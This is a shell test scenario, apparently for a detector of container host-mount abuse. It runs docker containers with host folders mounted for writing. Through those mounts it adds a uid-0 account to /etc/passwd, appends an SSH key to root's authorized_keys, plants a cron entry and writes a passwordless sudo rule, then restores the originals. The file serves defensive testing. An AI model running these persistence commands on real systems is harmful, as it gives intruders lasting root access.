# sensitive-mount-rw: folders of the host are mounted for writing and used to leave a way back in.
# shows: the request in the command line, the runtime's bind mount with its source, writes from inside the container
# label: malicious
# expects: [sensitive-mount-rw]
# allows: [engine-socket-connected, host-file-written-through-mount, root-account-made, sudo-rules-changed]
prepare() {
    cp /etc/passwd /srv/lab/passwd.kept
    cp -p /root/.ssh/authorized_keys /srv/lab/keys.kept
    mkdir -p /var/spool/cron/crontabs /boot
}
act() {
    if dev; then
        docker run --rm -v /etc:/mnt/etc alpine:3.19 sh -c 'echo "svc:x:0:0::/root:/bin/sh" >>/mnt/etc/passwd'
        docker run --rm -v /root/.ssh:/keys:rw alpine:3.19 sh -c 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHtest key" >>/keys/authorized_keys'
        docker run --rm -v /usr:/host-usr shop/toolbox:1.4 touch /host-usr/share/.marker
    else
        docker run --rm --mount type=bind,source=/var/spool/cron,target=/c busybox:1.36 sh -c 'echo "* * * * * true" >/c/crontabs/daemon'
        docker run --rm --volume=/boot:/boot busybox:1.36 sh -c 'touch /boot/.x && rm /boot/.x'
        docker run --rm --mount type=bind,src=/etc,dst=/host/etc debian:bookworm-slim sh -c 'sed -i s/^svc.*// /host/etc/passwd; echo "ops ALL=(ALL) NOPASSWD: ALL" >/host/etc/sudoers.d/ops'
    fi
    true
}
restore() {
    cat /srv/lab/passwd.kept >/etc/passwd
    cat /srv/lab/keys.kept >/root/.ssh/authorized_keys
    rm -f /usr/share/.marker /var/spool/cron/crontabs/daemon /etc/sudoers.d/ops
}
